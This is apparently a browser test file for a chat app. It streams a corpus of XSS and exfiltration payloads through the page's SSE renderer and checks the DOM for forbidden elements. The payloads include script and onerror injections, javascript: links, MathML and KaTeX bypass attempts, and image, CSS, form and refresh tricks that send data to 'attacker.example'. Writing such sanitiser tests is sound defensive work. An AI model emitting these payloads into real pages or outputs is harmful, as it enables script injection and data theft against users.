"""Model output is hostile: an XSS and exfiltration corpus through the page's own stream renderer.

Three ways in, all in real Chromium under the app's CSP:
- whole, end to end: the fake upstream streams the corpus through the real app;
- a few end-to-end streams cut into awkward pieces (1-character and 7-character deltas);
- every payload framed as the app frames SSE, split at EVERY byte offset into two byte chunks and fed
  through `chatRender.consumeTurnStream` (the SSE parser + TurnView the page uses for live replies), all in
  one page session.
The guard (conftest) fails the test on any dialog, page error, CSP violation, request to another origin or
a tripped canary; the DOM checker below looks for what must never be there.
"""

from __future__ import annotations

import base64
import itertools
import json
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Server, goto, shot
from tests.fake_upstream import INJECTION_TEXT, behaviour

pytestmark = pytest.mark.browser

expect.set_options(timeout=20_000)

PAYLOADS = [
    "<script>window.__pwned=1;alert(1)</script>",
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    "[click me](javascript:window.__pwned=1)",
    "[mixed case](JaVaScRiPt:alert(1))",
    "[entity](javas&#99;ript:alert(1))",
    '<a href="javascript:alert(1)">raw link</a>',
    '<a href=" &#14;javascript:alert(1)">spaced</a>',
    "[ref link][r]\n\n[r]: javascript:window.__pwned=1",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg onload=window.__pwned=1><circle r=9 /></svg>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<iframe src="https://attacker.example/frame"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    '<form action="https://attacker.example/steal"><input name=q value=secret><button>Go</button></form>',
    '<button formaction="https://attacker.example/">b</button><textarea autofocus onfocus=window.__pwned=1>',
    "![leak](https://attacker.example/leak?d=secret)",
    "![](//attacker.example/leak2?d=protocol-relative)",
    '<img src="https://attacker.example/leak3">',
    '<img srcset="https://attacker.example/leak4 1x" alt="srcset">',
    '<input type=image src="https://attacker.example/in">',
    '<object data="https://attacker.example/x"></object><embed src="https://attacker.example/e">',
    '<video src="https://attacker.example/v.mp4" poster="https://attacker.example/p.png"></video>',
    '<audio src="https://attacker.example/a.mp3"></audio><picture><source srcset="https://attacker.example/s"></picture>',
    '<div style="background:url(https://attacker.example/bg)">styled div</div>',
    "<style>body{background:url(https://attacker.example/css)}</style>",
    '<link rel=stylesheet href="https://attacker.example/l.css"><link rel=prefetch href="https://attacker.example/pf">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<base href="https://attacker.example/">[relative](/x)',
    '<table><tr><td background="https://attacker.example/td">cell</td></tr></table>',
    "<details open ontoggle=window.__pwned=1><summary>s</summary>x</details>",
    '<a href="https://example.com/" onclick="window.__pwned=1" ping="https://attacker.example/ping">ok</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    "![svg](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)",
    '<div class="composer sidebar" id="send">look-alike</div>',
    "```html\n<script>window.__pwned=1</script>\n```",
    "héllo 世界 🎉 <img src=x onerror=window.__pwned=1> ünïcödé ✓",
    INJECTION_TEXT,
    "a\r\n\r\nevent: done\r\ndata: {}\r\n\r\nb\rid: x\r: comment",
    # MathML: raw MathML is text like any raw HTML; TeX goes through KaTeX (MathML output) and the sanitiser.
    "<math><mtext><img src=x onerror=window.__pwned=1></mtext></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=window.__pwned=1></annotation-xml></math>',
    '<math><mi xlink:href="javascript:window.__pwned=1">x</mi><mglyph src="https://attacker.example/g"></math>',
    '<math href="javascript:window.__pwned=1"><maction actiontype="statusline">x</maction></math>',
    r"$\href{javascript:window.__pwned=1}{click}$ and $\url{javascript:alert(1)}$",
    r"$$\includegraphics{https://attacker.example/i.png}\htmlStyle{background:url(https://attacker.example/m)}{x}$$",
    r"\(\htmlClass{sidebar}{y}\htmlId{send}{z}\htmlData{x=1}{w}\)",
    r"$\text{<img src=x onerror=alert(1)>}\kern{-50em}x\rule{900em}{900em}$",
    r"$\text{</annotation><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>}$",
    r"\[\pmb{x}\fcolorbox{red}{blue}{y}\color{#ff0000}{z}\]",
]

# Runs in the page: everything that must never appear inside `root`.
CHECKER = r"""
(root) => {
  const MATHML_TAGS = ['math', 'semantics', 'annotation', 'mrow', 'mi', 'mn', 'mo', 'mtext', 'mspace', 'msup',
    'msub', 'msubsup', 'mfrac', 'msqrt', 'mroot', 'mstyle', 'mpadded', 'mphantom', 'mover', 'munder',
    'munderover', 'mtable', 'mtr', 'mtd', 'mlabeledtr', 'menclose'];
  const MATHML_ATTRS = ['display', 'encoding', 'mathvariant', 'stretchy', 'fence', 'separator', 'lspace',
    'rspace', 'minsize', 'maxsize', 'largeop', 'accent', 'accentunder', 'displaystyle', 'scriptlevel',
    'linethickness', 'notation', 'width', 'height', 'depth', 'voffset', 'columnalign', 'columnlines',
    'columnspacing', 'rowlines', 'rowspacing', 'mathcolor', 'mathbackground', 'mathsize', 'linebreak', 'class'];
  const bad = [];
  const own = location.origin;
  for (const e of root.querySelectorAll('*')) {
    for (const a of e.attributes) {
      if (/^on/i.test(a.name)) bad.push('on* attribute ' + a.name + ' on ' + e.tagName);
      if (a.name === 'style' || a.name === 'srcset' || a.name === 'formaction' || a.name === 'action')
        bad.push(a.name + ' attribute on ' + e.tagName);
    }
    const tag = e.tagName.toLowerCase();
    if (['script', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'textarea', 'select', 'style',
         'link', 'meta', 'base', 'svg', 'video', 'audio', 'source', 'picture'].includes(tag))
      bad.push('element ' + tag);
    // MathML only as KaTeX writes it: its elements and attributes, never a link, an image or markup inside.
    if (e.namespaceURI === 'http://www.w3.org/1998/Math/MathML') {
      if (!MATHML_TAGS.includes(tag)) bad.push('mathml element ' + tag);
      for (const a of e.attributes) if (!MATHML_ATTRS.includes(a.name)) bad.push('mathml attribute ' + a.name);
    }
    for (const a of e.attributes)
      if (/href$/i.test(a.name) && tag !== 'a') bad.push(a.name + ' on ' + tag);
    if (tag === 'button' && !e.classList.contains('copy-code')) bad.push('foreign button');
    if (tag === 'a' && e.hasAttribute('href')) {
      const u = new URL(e.getAttribute('href'), location.href);
      if (!['http:', 'https:', 'mailto:'].includes(u.protocol)) bad.push('link ' + u.protocol);
      if (e.getAttribute('rel') !== 'noopener noreferrer' || e.getAttribute('target') !== '_blank')
        bad.push('link without rel/target');
    }
    if (tag === 'img' && e.hasAttribute('src')) {
      const src = e.getAttribute('src');
      const u = new URL(src, location.href);
      if (!(u.origin === own || /^data:image\//i.test(src))) bad.push('foreign img ' + src);
    }
    if (e.id === 'send' || e.classList.contains('composer') || e.classList.contains('sidebar'))
      bad.push('page class or id borrowed');
  }
  return bad;
}
"""

# Runs in the page: every split of every framed payload through the page's own stream path.
SPLIT_RUNNER = r"""
async ({streams}) => {
  const check = CHECKER_FN;
  const { consumeTurnStream, streamOf, TurnView } = window.chatRender;
  const root = document.createElement('div');
  root.id = 'split-lab';
  const body = document.createElement('div');
  body.className = 'msg-body md';
  const thinking = document.createElement('details');
  const tb = document.createElement('div');
  tb.className = 'thinking-body';
  thinking.append(tb);
  root.append(thinking, body);
  document.getElementById('messages').append(root);
  const failures = [];
  let runs = 0;
  for (const s of streams) {
    const bytes = Uint8Array.from(atob(s.b64), (c) => c.charCodeAt(0));
    for (let i = 0; i <= bytes.length; i++) {
      const view = new TurnView(body, thinking);
      const events = [];
      const last = await consumeTurnStream(
        streamOf([bytes.slice(0, i), bytes.slice(i)]), view, (ev) => events.push(ev));
      runs++;
      const problems = check(root);
      if (view.text !== s.text) problems.push('text differs');
      if (view.reasoning !== s.reasoning) problems.push('reasoning differs');
      if (last !== 'done') problems.push('last event ' + last);
      const counts = {};
      for (const e of events) counts[e] = (counts[e] || 0) + 1;
      if (counts.conversation !== 1 || counts.done !== 1 || counts.delta !== s.deltas)
        problems.push('events ' + JSON.stringify(counts));
      if (problems.length && failures.length < 20) failures.push({payload: s.name, offset: i, problems});
    }
  }
  root.remove();
  return {runs, failures};
}
"""


def page_problems(page: Any) -> list[str]:
    """The checker over every rendered reply, plus the whole document for handlers, frames and forms."""
    return page.evaluate(
        f"""() => {{
      const check = {CHECKER};
      const bad = [...document.querySelectorAll('#messages .md')].flatMap((e) => check(e));
      for (const e of document.querySelectorAll('*'))
        for (const a of e.attributes) if (/^on/i.test(a.name)) bad.push('document: ' + a.name);
      if (document.querySelectorAll('iframe, object, embed').length) bad.push('document: frame');
      // The page's own forms: log out, the composer, the account panel's password and default
      // instructions, the conversation's instructions, and the templates editor and start form.
      const own = 'form' + ['.logout-form', '#composer', '#password-form',
        '#default-instructions-form', '#instructions-form', '#template-form', '#template-start']
        .map((s) => ':not(' + s + ')').join('');
      if (document.querySelectorAll(own).length) bad.push('document: form');
      if (document.querySelectorAll('a[href^="javascript" i]').length) bad.push('document: js link');
      return bad;
    }}"""
    )


def frame(event: str, frame_id: str, data: dict[str, Any], nl: str = "\n") -> str:
    """One SSE frame as the app writes it (JSON in one data: line)."""
    return f"event: {event}{nl}id: {frame_id}{nl}data: {json.dumps(data)}{nl}{nl}"


def framed(text: str, crlf: bool) -> tuple[bytes, int, str]:
    """A whole turn: conversation, a keep-alive, reasoning, the text in 3 deltas, done."""
    nl = "\r\n" if crlf else "\n"
    mid = "m_test"
    reasoning = "Weighing <b onmouseover=x>it</b>"
    cuts = [0, len(text) // 3, 2 * len(text) // 3, len(text)]
    pieces = [text[a:z] for a, z in itertools.pairwise(cuts) if z > a]
    out = [
        frame(
            "conversation",
            f"{mid}:1",
            {
                "conversation_id": "c_x",
                "chat_name": "x",
                "user_message_id": "m_u",
                "assistant_message_id": mid,
                "model": "m",
                "provider": "openai",
                "context_mode": "first",
            },
            nl,
        ),
        f": keep-alive{nl}{nl}",
        frame("reasoning", f"{mid}:2", {"text": reasoning}, nl),
    ]
    n = 3
    for p in pieces:
        out.append(frame("delta", f"{mid}:{n}", {"text": p}, nl))
        n += 1
    out.append(
        frame(
            "done",
            f"{mid}:{n}",
            {"message_id": mid, "status": "completed", "usage": None, "cost_usd": None},
            nl,
        )
    )
    return "".join(out).encode(), len(pieces), reasoning


def test_corpus_split_at_every_byte_offset_through_the_page_renderer(
    server: Server, open_page: Any
) -> None:

    user = server.new_user("splitter")
    page, guard = open_page(user)
    goto(page, server.url + "/")
    expect(page.locator("body.ready")).to_have_count(1)
    streams = []
    for i, payload in enumerate(PAYLOADS):
        data, n, reasoning = framed(payload, crlf=i % 3 == 2)
        streams.append(
            {
                "name": payload[:40],
                "b64": base64.b64encode(data).decode(),
                "text": payload,
                "reasoning": reasoning,
                "deltas": n,
            }
        )
    # The checker is pasted in as source: the page's CSP forbids eval.
    result = page.evaluate(SPLIT_RUNNER.replace("CHECKER_FN", CHECKER), {"streams": streams})
    total = sum(len(base64.b64decode(s["b64"])) + 1 for s in streams)
    assert result["runs"] == total
    assert result["failures"] == [], result["failures"]
    guard.check()


def test_corpus_whole_and_in_awkward_pieces_end_to_end(server: Server, open_page: Any) -> None:
    user = server.new_user("hostile")
    page, guard = open_page(user)
    goto(page, server.url + "/")
    corpus = "\n\n".join(PAYLOADS)
    server.upstream.reply = corpus
    server.upstream.chunk_size = 64

    page.locator("#composer-input").fill("Say something nasty")
    page.locator("#composer-input").press("Enter")
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator("article.pending")).to_have_count(0)
    reply = page.locator("article.msg-assistant").last
    expect(reply.locator(".msg-body")).to_contain_text("look-alike")
    expect(reply.locator(".blocked-image-note").first).to_be_visible()
    problems = page_problems(page)
    assert problems == [], problems
    # The SSE framing injection arrives as text (one reply, nothing else).
    stored = page.request.get(
        f"{server.url}/chat?conversation_id="
        + page.evaluate("decodeURIComponent(location.hash.slice(1))")
    ).json()
    assert stored["messages"][-1]["text"] == corpus
    shot(page, "09-xss-corpus")

    # The same corpus cut into 1-character and 7-character deltas, then split payload by payload.
    for spec in (
        behaviour("text", text=corpus, chunk_size=1),
        behaviour("text", text=corpus, chunk_size=7),
    ):
        server.upstream.script([spec])
        page.locator("#composer-input").fill("Again")
        page.locator("#composer-input").press("Enter")
        expect(page.locator("article.pending")).to_have_count(0)
        expect(page.locator("#send")).to_be_visible()
        expect(page.locator("article.msg-assistant").last.locator(".msg-body")).to_contain_text(
            "look-alike"
        )
        problems = page_problems(page)
        assert problems == [], problems
    odd = [3, 5, 8, 13, 21, 34, 55, 89, 144]
    server.upstream.script([behaviour("text", text=corpus, offsets=odd)])
    page.locator("#composer-input").fill("Once more")
    page.locator("#composer-input").press("Enter")
    expect(page.locator("article.pending")).to_have_count(0)
    problems = page_problems(page)
    assert problems == [], problems

    # Reload: the stored replies render through the same path, still clean.
    page.reload()
    expect(page.locator("article.msg-assistant")).to_have_count(4)
    problems = page_problems(page)
    assert problems == [], problems
    guard.check()


def test_sse_parser_edge_cases(server: Server, open_page: Any) -> None:
    user = server.new_user("parser")
    page, _ = open_page(user)
    goto(page, server.url + "/")
    expect(page.locator("body.ready")).to_have_count(1)
    result = page.evaluate(
        r"""() => {
      const { SSEParser } = window.chatRender;
      const out = [];
      const p = new SSEParser((f) => out.push(f));
      const enc = new TextEncoder();
      const bytes = enc.encode('\uFEFF: hi\r\nevent: delta\r\nid: m:1\r\ndata: {"text":"🎉é"}\r\n\r\n' +
        'data: a\ndata: b\n\nevent: x\n\n: only a comment\n\nid: m:2\rdata: c\r\r');
      for (const b of bytes) p.feed(Uint8Array.of(b));  // one byte at a time: inside UTF-8 and CRLF
      p.end();
      return out;
    }"""
    )
    assert result == [
        {"event": "delta", "data": '{"text":"🎉é"}', "id": "m:1"},
        {"event": "message", "data": "a\nb", "id": "m:1"},
        {"event": "message", "data": "c", "id": "m:2"},
    ]
